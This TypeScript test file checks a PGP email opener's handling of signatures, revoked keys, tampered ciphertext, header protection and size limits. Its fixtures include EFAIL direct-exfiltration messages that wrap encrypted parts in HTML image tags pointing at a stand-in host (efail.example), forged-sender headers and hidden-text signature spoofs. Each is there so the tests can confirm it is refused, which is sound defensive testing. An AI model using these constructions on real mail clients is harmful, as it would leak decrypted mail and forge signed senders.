import assert from 'node:assert/strict'
import { before, test } from 'node:test'
import fc from 'fast-check'
import {
  createCleartextMessage,
  createMessage,
  encrypt,
  generateKey,
  type PrivateKey,
  type PublicKey,
  readKey,
  sign,
} from 'openpgp'
import { concat, utf8 } from '../../../src/base/bytes.ts'
import { autocryptField } from '../autocrypt/autocrypt-header.ts'
import { minimalKey } from '../keys/minimal-key.ts'
import { extendKey, revokeOwnKey } from '../keys/renew-key.ts'
import { wipeKey } from '../keys/unlock-key.ts'
import { PGP_LIMITS, type PgpLimits } from '../limits.ts'
import { openMessage } from './open-message.ts'
import type { OpenedMessage } from './opened-message.ts'

const DAY_MS = 24 * 60 * 60 * 1000
const MADE_MS = Date.UTC(2026, 0, 1)
const NOW_MS = Date.UTC(2026, 10, 26)
const SECRET = 'the secret text'

let ada: PrivateKey
let bo: PrivateKey
let mallory: PrivateKey

before(async () => {
  ;[ada, bo, mallory] = (await Promise.all(['ada', 'bo', 'mallory'].map(keyFor))) as [
    PrivateKey,
    PrivateKey,
    PrivateKey,
  ]
})

async function keyFor(name: string): Promise<PrivateKey> {
  const options = {
    userIDs: { email: `${name}@posthus.test` },
    type: 'ecc',
    curve: 'ed25519Legacy',
    date: new Date(MADE_MS),
    format: 'object',
  } as const
  return (await generateKey(options)).privateKey
}

/** Opens a message as Bo, who knows the keys of Ada and Mallory. */
function open(
  message: string | Uint8Array,
  others: PublicKey[] = [ada.toPublic(), mallory.toPublic()],
  limits: PgpLimits = PGP_LIMITS,
): Promise<OpenedMessage> {
  const octets = typeof message === 'string' ? utf8(message.replace(/\r?\n/g, '\r\n')) : message
  return openMessage(octets, { own: [{ publicKey: bo.toPublic(), unlocked: bo }], others }, limits, NOW_MS)
}

async function sealed(
  payload: string | Uint8Array,
  signer?: PrivateKey,
  to: PublicKey = bo.toPublic(),
  dateMs = NOW_MS,
): Promise<string> {
  const binary = typeof payload === 'string' ? utf8(payload.replace(/\r?\n/g, '\r\n')) : payload
  const signing = signer ? { signingKeys: signer } : {}
  return (await encrypt({
    message: await createMessage({ binary }),
    encryptionKeys: to,
    ...signing,
    date: new Date(dateMs),
  })) as string
}

async function detached(payload: string, signer: PrivateKey, dateMs = NOW_MS): Promise<string> {
  const message = await createMessage({ binary: utf8(payload.replace(/\r?\n/g, '\r\n')) })
  return (await sign({ message, signingKeys: signer, detached: true, date: new Date(dateMs) })) as string
}

const HEAD = 'From: Ada <ada@posthus.test>\nTo: bo@posthus.test\nSubject: outer\n'
const PAYLOAD = `Content-Type: text/plain\n\n${SECRET}\n`

function encryptedMessage(armor: string, head = HEAD): string {
  return `${head}MIME-Version: 1.0\nContent-Type: multipart/encrypted; protocol="application/pgp-encrypted"; boundary="e"\n\n${encryptedParts(armor, 'e')}`
}

function encryptedParts(armor: string, boundary: string): string {
  return `--${boundary}\nContent-Type: application/pgp-encrypted\n\nVersion: 1\n\n--${boundary}\nContent-Type: application/octet-stream\n\n${armor}\n--${boundary}--\n`
}

function signedMessage(payload: string, armor: string, head = HEAD): string {
  return `${head}MIME-Version: 1.0\nContent-Type: multipart/signed; micalg=pgp-sha512; protocol="application/pgp-signature"; boundary="s"\n\n${signedParts(payload, armor, 's')}`
}

function signedParts(payload: string, armor: string, boundary: string): string {
  return `--${boundary}\n${payload}\n--${boundary}\nContent-Type: application/pgp-signature\n\n${armor}\n--${boundary}--\n`
}

/** The states that are shown: encryption (why not), what is covered, the signature. */
function states(opened: OpenedMessage): string[] {
  const { encryption } = opened
  return [
    encryption.kind === 'refused' ? encryption.why : encryption.kind,
    opened.coverage,
    opened.signature?.kind ?? '-',
  ]
}

/** Whatever is refused shows nothing of what is within, in no part of the answer. */
function assertNothingShown(opened: OpenedMessage, what: string): void {
  assert.equal(opened.content, undefined, what)
  assert.equal(JSON.stringify(opened).includes(SECRET), false, what)
}

test('signatures: each state by its name', async () => {
  const good = await sealed(PAYLOAD, ada)
  assert.deepEqual(states(await open(encryptedMessage(good))), ['decrypted', 'whole', 'good'])
  assert.deepEqual(states(await open(encryptedMessage(await sealed(PAYLOAD)))), ['decrypted', 'none', '-'])
  assert.deepEqual(states(await open(encryptedMessage(good), [])), ['decrypted', 'whole', 'unknown-signer'])
  assert.deepEqual(states(await open(encryptedMessage(await sealed(PAYLOAD, mallory)))), [
    'decrypted',
    'whole',
    'wrong-signer',
  ])
  const signature = await detached(PAYLOAD, ada)
  assert.deepEqual(states(await open(signedMessage(PAYLOAD, signature))), ['none', 'whole', 'good'])
  assert.deepEqual(states(await open(signedMessage(PAYLOAD.replace('secret', 'Secret'), signature))), [
    'none',
    'whole',
    'bad',
  ])
  assert.deepEqual(states(await open(signedMessage(PAYLOAD, 'no signature at all'))), ['none', 'none', '-'])
  const early = await detached(PAYLOAD, ada, NOW_MS + 10 * DAY_MS)
  assert.deepEqual(states(await open(signedMessage(PAYLOAD, early))), ['none', 'whole', 'unusable-key'])
  const inner = `Content-Type: multipart/signed; micalg=pgp-sha512; protocol="application/pgp-signature"; boundary="s"\n\n${signedParts(PAYLOAD, signature, 's')}`
  const both = await open(encryptedMessage(await sealed(inner)))
  assert.deepEqual(states(both), ['decrypted', 'whole', 'good'])
  assert.equal(both.content?.text, `${SECRET}\n`)
})

test('keys that have expired or were revoked: what they signed before stays good, unless they were stolen', async () => {
  const signature = await detached(PAYLOAD, ada, MADE_MS + 10 * DAY_MS)
  const message = signedMessage(PAYLOAD, signature)
  const expiredLater = (await extendKey(ada, MADE_MS + 20 * DAY_MS, MADE_MS + DAY_MS)).toPublic()
  const expiredBefore = (await extendKey(ada, MADE_MS + 5 * DAY_MS, MADE_MS + DAY_MS)).toPublic()
  // GnuPG keeps the newest self-signature alone when it gives a key another end.
  const newest = await minimalKey(
    (await extendKey(ada, MADE_MS + 20 * DAY_MS, MADE_MS + 15 * DAY_MS)).toPublic(),
    'ada@example.net',
    MADE_MS + 16 * DAY_MS,
  )
  const retired = (await revokeOwnKey(ada, 'retired', MADE_MS + 20 * DAY_MS)).toPublic()
  const retiredBefore = (await revokeOwnKey(ada, 'superseded', MADE_MS + 5 * DAY_MS)).toPublic()
  const stolen = (await revokeOwnKey(ada, 'compromised', MADE_MS + 20 * DAY_MS)).toPublic()
  const rows: [what: string, key: PublicKey, kind: string][] = [
    ['has expired since', expiredLater, 'good'],
    ['had expired', expiredBefore, 'expired-key'],
    ['was extended since, and has expired', (await readKey({ binaryKey: newest })).toPublic(), 'good'],
    ['was retired since', retired, 'good'],
    ['had been replaced', retiredBefore, 'revoked-key'],
    ['was stolen', stolen, 'revoked-key'],
    ['has been extended since', (await extendKey(ada, NOW_MS + DAY_MS, NOW_MS - DAY_MS)).toPublic(), 'good'],
  ]
  for (const [what, key, kind] of rows) assert.equal((await open(message, [key])).signature?.kind, kind, what)
})

test('what is encrypted and not whole is refused, and nothing of it is shown', async () => {
  const armor = await sealed(PAYLOAD, ada)
  const lines = armor.split('\n')
  const at = Math.floor(lines.length / 2)
  const flipped = lines
    .with(
      at,
      (lines[at] as string).replace(/^./, (c) => (c === 'A' ? 'B' : 'A')),
    )
    .join('\n')
  const cut = [...lines.slice(0, at), ...lines.slice(-3)].join('\n')
  const rows: [what: string, message: string, why: string][] = [
    ['one octet changed', encryptedMessage(flipped), 'damaged'],
    ['cut short', encryptedMessage(cut), 'damaged'],
    ['not PGP', encryptedMessage('hello'), 'malformed'],
    ['a key in place of a message', encryptedMessage(bo.toPublic().armor()), 'malformed'],
    [
      'signed, not encrypted',
      encryptedMessage((await sign({ message: await createMessage({ text: SECRET }), signingKeys: ada })) as string),
      'malformed',
    ],
    ['three parts', encryptedMessage(armor).replace('--e--', '--e\n\nmore\n--e--'), 'malformed'],
    [
      'one part',
      encryptedMessage(armor).replace('--e\nContent-Type: application/pgp-encrypted\n\nVersion: 1\n\n', ''),
      'malformed',
    ],
    [
      'encrypted twice',
      encryptedMessage(
        await sealed(
          `Content-Type: multipart/encrypted; protocol="application/pgp-encrypted"; boundary="n"\n\n${encryptedParts(armor, 'n')}`,
        ),
      ),
      'nested',
    ],
    [
      'with a password',
      encryptedMessage((await encrypt({ message: await createMessage({ text: SECRET }), passwords: 'x' })) as string),
      'password-only',
    ],
  ]
  for (const [what, message, why] of rows) {
    const opened = await open(message)
    assert.equal(states(opened)[0], why, what)
    assertNothingShown(opened, what)
  }
  const foreign = await open(encryptedMessage(await sealed(PAYLOAD, ada, mallory.toPublic())))
  assert.equal(foreign.encryption.kind, 'no-key')
  assertNothingShown(foreign, 'no key')
})

test('EFAIL: what is encrypted beside other parts, in HTML or below other text is never opened', async () => {
  const armor = await sealed(`Content-Type: text/html\n\n${SECRET}`, ada)
  const mixed = (parts: string, subtype = 'mixed') =>
    `${HEAD}MIME-Version: 1.0\nContent-Type: multipart/${subtype}; boundary="m"\n\n${parts}--m--\n`
  const encryptedPart = `--m\nContent-Type: multipart/encrypted; protocol="application/pgp-encrypted"; boundary="e"\n\n${encryptedParts(armor, 'e')}\n`
  const openTag = '--m\nContent-Type: text/html\n\n<img src="http://efail.example/\n'
  const closeTag = '--m\nContent-Type: text/html\n\n">\n'
  const html = (body: string) => `${HEAD}Content-Type: text/html\n\n${body}\n`
  const rows: [what: string, message: string][] = [
    ['direct exfiltration', mixed(openTag + encryptedPart + closeTag)],
    ['before it only', mixed(openTag + encryptedPart)],
    ['after it only', mixed(encryptedPart + closeTag)],
    ['alone in a multipart of its own', mixed(encryptedPart)],
    ['as an alternative', mixed(`--m\nContent-Type: text/plain\n\nhello\n${encryptedPart}`, 'alternative')],
    ['related to HTML', mixed(openTag + encryptedPart, 'related')],
    [
      'deeper',
      mixed(
        `--m\nContent-Type: multipart/mixed; boundary="d"\n\n--d\nContent-Type: multipart/encrypted; protocol="application/pgp-encrypted"; boundary="e"\n\n${encryptedParts(armor, 'e')}\n--d--\n`,
      ),
    ],
    ['inline in HTML', html(`<pre>\n${armor}</pre>`)],
    ['inline in an attribute', html(`<img src="http://efail.example/\n${armor}">`)],
    ['inline below text', `${HEAD}\nSee below\n\n${armor}`],
    ['inline above text', `${HEAD}\n${armor}\nsee above`],
    ['twice inline', `${HEAD}\n${armor}\n${armor}`],
    ['inline in one of several parts', mixed(`--m\nContent-Type: text/plain\n\n${armor}\n${closeTag}`)],
    [
      'inline, with transfer encoding, in HTML',
      `${HEAD}Content-Type: text/html\nContent-Transfer-Encoding: base64\n\n${btoa(`<b>${armor}`)}\n`,
    ],
    [
      'as in Outlook, the parts taken out',
      mixed(
        `--m\nContent-Type: application/pgp-encrypted\n\nVersion: 1\n--m\nContent-Type: application/octet-stream\n\n${armor}\n`,
      ),
    ],
  ]
  for (const [what, message] of rows) {
    const opened = await open(message)
    assert.deepEqual(opened.encryption, { kind: 'refused', why: 'partly-encrypted' }, what)
    assertNothingShown(opened, what)
  }
})

test('"Johnny, you are fired": a signature over a part, or of somebody else, is never shown for the message', async () => {
  const quoted = 'Content-Type: text/plain\n\nYou are fired.'
  const signature = await detached(quoted, ada)
  const part = `Content-Type: multipart/signed; protocol="application/pgp-signature"; boundary="s"\n\n${signedParts(quoted, signature, 's')}`
  const mixed = (parts: string, head = HEAD) =>
    `${head}MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary="m"\n\n${parts}--m--\n`
  const clear = (await sign({
    message: await createCleartextMessage({ text: 'You are fired.' }),
    signingKeys: ada,
    date: new Date(NOW_MS),
  })) as string
  const none: [what: string, message: string][] = [
    [
      'an unsigned part above the signed one',
      mixed(
        `--m\nContent-Type: text/html\n\n<b>Send money</b><style>.x{display:none}</style><div class=x>\n--m\n${part}\n`,
      ),
    ],
    ['the signed part above an unsigned one', mixed(`--m\n${part}\n--m\nContent-Type: text/html\n\nmore\n`)],
    [
      'a third part within',
      signedMessage(quoted, signature).replace('--s--', '--s\nContent-Type: text/plain\n\nmore\n--s--'),
    ],
    [
      'the signature first',
      `${HEAD}Content-Type: multipart/signed; protocol="application/pgp-signature"; boundary="s"\n\n--s\nContent-Type: application/pgp-signature\n\n${signature}\n--s\n${quoted}\n--s--\n`,
    ],
    [
      'a signature of another kind',
      signedMessage(quoted, signature).replace(
        '\nContent-Type: application/pgp-signature',
        '\nContent-Type: application/pkcs7-signature',
      ),
    ],
    ['clearsigned text below other text', `${HEAD}\nSend money\n\n${clear}`],
    ['clearsigned text above other text', `${HEAD}\n${clear}\nSend money`],
    ['clearsigned text in HTML', `${HEAD}Content-Type: text/html\n\n<pre>\n${clear}</pre>`],
    [
      'a signed message as an attachment',
      mixed(
        `--m\nContent-Type: text/plain\n\nhello\n--m\nContent-Type: message/rfc822\n\n${signedMessage(quoted, signature)}\n`,
      ),
    ],
  ]
  for (const [what, message] of none) {
    const opened = await open(message)
    assert.equal(opened.signature, undefined, what)
    assert.notEqual(opened.coverage, 'whole', what)
  }
  const wrong: [what: string, head: string][] = [
    ['another sender', 'From: boss@posthus.test\n'],
    ['the address as a name', 'From: "ada@posthus.test" <mallory@evil.example>\n'],
    ['two senders in one field', 'From: ada@posthus.test, mallory@evil.example\n'],
    ['two fields', 'From: ada@posthus.test\nFrom: mallory@evil.example\n'],
    ['no sender', 'Sender: ada@posthus.test\n'],
    ['a comment', 'From: mallory@evil.example (ada@posthus.test)\n'],
    ['a group', 'From: ada: mallory@evil.example;\n'],
  ]
  for (const [what, head] of wrong) {
    assert.equal((await open(signedMessage(quoted, signature, head))).signature?.kind, 'wrong-signer', what)
  }
  const within = await open(
    encryptedMessage(
      await sealed(
        `Content-Type: multipart/mixed; boundary="m"\n\n--m\nContent-Type: text/html\n\nSend money\n--m\n${part}\n--m--\n`,
      ),
    ),
  )
  assert.deepEqual(states(within), ['decrypted', 'none', '-'], 'encrypted by somebody around a signed part')
})

test('inline PGP is read when there is nothing beside it, and is text whatever it looks like', async () => {
  const text = 'Grüße <img src="http://x.example/">\n- dash\n'
  const inline = await open(`${HEAD}Content-Type: text/plain; charset=utf-8\n\n${await sealed(text, ada)}\n\n`)
  assert.deepEqual([inline.form, ...states(inline), inline.loads], ['inline', 'decrypted', 'whole', 'good', 'nothing'])
  assert.deepEqual(inline.content, { text, html: undefined, files: [] })
  const clear = (await sign({
    message: await createCleartextMessage({ text }),
    signingKeys: ada,
    date: new Date(NOW_MS),
  })) as string
  const signed = await open(`${HEAD}Content-Type: text/plain; charset=utf-8\n\n${clear}`)
  assert.deepEqual([signed.form, ...states(signed)], ['inline', 'none', 'whole', 'good'])
  assert.equal(signed.content?.text?.trimEnd(), text.trimEnd())
  const changed = await open(`${HEAD}Content-Type: text/plain; charset=utf-8\n\n${clear.replace('dash', 'dAsh')}`)
  assert.deepEqual(states(changed), ['none', 'whole', 'bad'])
})

test('the format of Thunderbird: fields with protected-headers="v1", a legacy part, gossip', async () => {
  const carol = await keyFor('carol')
  const gossip = (address: string) =>
    autocryptField('Autocrypt-Gossip', { address, prefersEncryption: false, key: carol.toPublic().write() })
  const payload = `Content-Type: multipart/mixed; boundary="p"; protected-headers="v1"\nFrom: Ada <ada@posthus.test>\nTo: bo@posthus.test, carol@posthus.test\n${gossip('carol@posthus.test')}${gossip('eve@posthus.test')}Subject: =?UTF-8?Q?Gr=C3=BC=C3=9Fe?=\nMessage-ID: <inner@posthus.test>\n\n--p\nContent-Type: text/rfc822-headers; protected-headers="v1"\nContent-Disposition: inline\n\nSubject: Gruesse\n--p\nContent-Type: text/plain; charset=UTF-8\n\n${SECRET}\n--p--\n`
  const opened = await open(encryptedMessage(await sealed(payload, ada), HEAD.replace('outer', '...')))
  assert.deepEqual(states(opened), ['decrypted', 'whole', 'good'])
  assert.equal(opened.headerProtection, 'v1')
  assert.equal(opened.headers.subject, 'Grüße')
  assert.equal(opened.headers.messageId, 'inner@posthus.test')
  assert.deepEqual(opened.content, { text: SECRET, html: undefined, files: [] })
  assert.deepEqual(
    opened.gossip.map((header) => header.address),
    ['carol@posthus.test'],
    'only for those who got the message',
  )
  const gossiped = await readKey({ binaryKey: opened.gossip[0]?.key as Uint8Array })
  assert.equal(gossiped.getFingerprint(), carol.getFingerprint())
})

test('RFC 9788: fields within count, those outside do not; elements for other programs are not shown', async () => {
  const payload = `Content-Type: multipart/alternative; boundary="p"; hp="cipher"\nFrom: ada@posthus.test\nTo: bo@posthus.test\nSubject: inner\nHP-Outer: Subject: [...]\nHP-Outer: From: ada@posthus.test\n\n--p\nContent-Type: text/plain; hp-legacy-display="1"\n\nSubject: inner\n\n${SECRET}\n--p\nContent-Type: text/html; hp-legacy-display="1"\n\n<html><body><div class="header-protection-legacy-display"><pre>Subject: inner</pre></div><p>${SECRET}</p></body></html>\n--p--\n`
  const opened = await open(encryptedMessage(await sealed(payload, ada), `${HEAD}Cc: eve@evil.example\n`))
  assert.equal(opened.headerProtection, 'rfc9788')
  assert.deepEqual([opened.headers.subject, opened.headers.cc], ['inner', []])
  assert.deepEqual([opened.content?.text, opened.content?.html], [SECRET, `<html><body><p>${SECRET}</p></body></html>`])
})

test('a From within counts when its owner has signed, and differences are told', async () => {
  const payload = (from: string) => `Content-Type: text/plain; hp="cipher"\nFrom: ${from}\nSubject: inner\n\n${SECRET}`
  const signed = await open(
    encryptedMessage(await sealed(payload('ada@posthus.test'), ada), 'From: list@lists.example\n'),
  )
  assert.equal(signed.signature?.kind, 'good')
  assert.deepEqual(
    [signed.headers.from[0]?.address, signed.otherFrom?.[0]?.address],
    ['ada@posthus.test', 'list@lists.example'],
  )
  const unsigned = await open(
    encryptedMessage(await sealed(payload('ada@posthus.test')), 'From: mallory@evil.example\n'),
  )
  assert.deepEqual(
    [unsigned.headers.from[0]?.address, unsigned.otherFrom?.[0]?.address],
    ['mallory@evil.example', 'ada@posthus.test'],
  )
  const clear = 'Content-Type: text/plain; hp="clear"\nFrom: ada@posthus.test\nSubject: inner\n\nx'
  const bad = await open(signedMessage(`${clear}y`, await detached(clear, ada)))
  assert.deepEqual([bad.signature?.kind, bad.headers.subject, bad.headerProtection], ['bad', 'outer', undefined])
})

test('a key that is forgotten while a message is opened makes it locked, not damaged', async () => {
  const own = await keyFor('bo')
  const message = utf8(encryptedMessage(await sealed(PAYLOAD, ada, own.toPublic())).replaceAll('\n', '\r\n'))
  wipeKey(own)
  const opened = await openMessage(
    message,
    { own: [{ publicKey: own.toPublic(), unlocked: own }], others: [] },
    PGP_LIMITS,
    NOW_MS,
  )
  assert.deepEqual(opened.encryption, { kind: 'locked', fingerprints: [own.getFingerprint()] })
  assertNothingShown(opened, 'forgotten')
})

test('limits: size, recipients, what is decompressed', async () => {
  const armor = await sealed(PAYLOAD, ada)
  const rows: [limits: Partial<PgpLimits>, why: string][] = [
    [{ maxMessageBytes: 500 }, 'too-large'],
    [{ maxRecipients: 0 }, 'too-many-recipients'],
  ]
  for (const [limits, why] of rows) {
    const opened = await open(encryptedMessage(armor), [], { ...PGP_LIMITS, ...limits })
    assert.equal(states(opened)[0], why)
    assertNothingShown(opened, why)
  }
  const large = (await encrypt({
    message: await createMessage({ binary: new Uint8Array(3_000_000) }),
    encryptionKeys: bo.toPublic(),
    config: { preferredCompressionAlgorithm: 2 },
  })) as string
  assert.ok(large.length < 20_000)
  assert.equal(
    states(await open(encryptedMessage(large), [], { ...PGP_LIMITS, maxDecompressedBytes: 1_000_000 }))[0],
    'too-large',
  )
})

test('any octets are opened, or have a state; never a fault, never what is within', async () => {
  const armor = await sealed(PAYLOAD, ada)
  const whole = utf8(encryptedMessage(armor).replaceAll('\n', '\r\n'))
  await fc.assert(
    fc.asyncProperty(
      fc.array(fc.tuple(fc.nat(whole.length - 1), fc.nat(255)), { minLength: 1, maxLength: 6 }),
      async (changes) => {
        const octets = whole.slice()
        for (const [at, octet] of changes) octets[at] = octet
        const opened = await open(octets)
        if (opened.encryption.kind === 'decrypted') assert.equal(opened.content?.text, `${SECRET}\n`)
        else assertNothingShown(opened, 'changed')
      },
    ),
    { numRuns: 60 },
  )
  const pieces = [
    '--e',
    '--s',
    '\n',
    'Content-Type: multipart/encrypted; boundary=e',
    'Content-Type: multipart/signed; boundary=s',
    'Content-Type: application/pgp-encrypted',
    armor,
    '-----BEGIN PGP SIGNED MESSAGE-----',
    'From: a@b',
  ]
  await fc.assert(
    fc.asyncProperty(fc.array(fc.constantFrom(...pieces), { maxLength: 12 }), async (lines) => {
      const opened = await open(concat([utf8(lines.join('\n'))]))
      if (opened.encryption.kind !== 'decrypted') assertNothingShown(opened, 'random')
    }),
    { numRuns: 60 },
  )
})
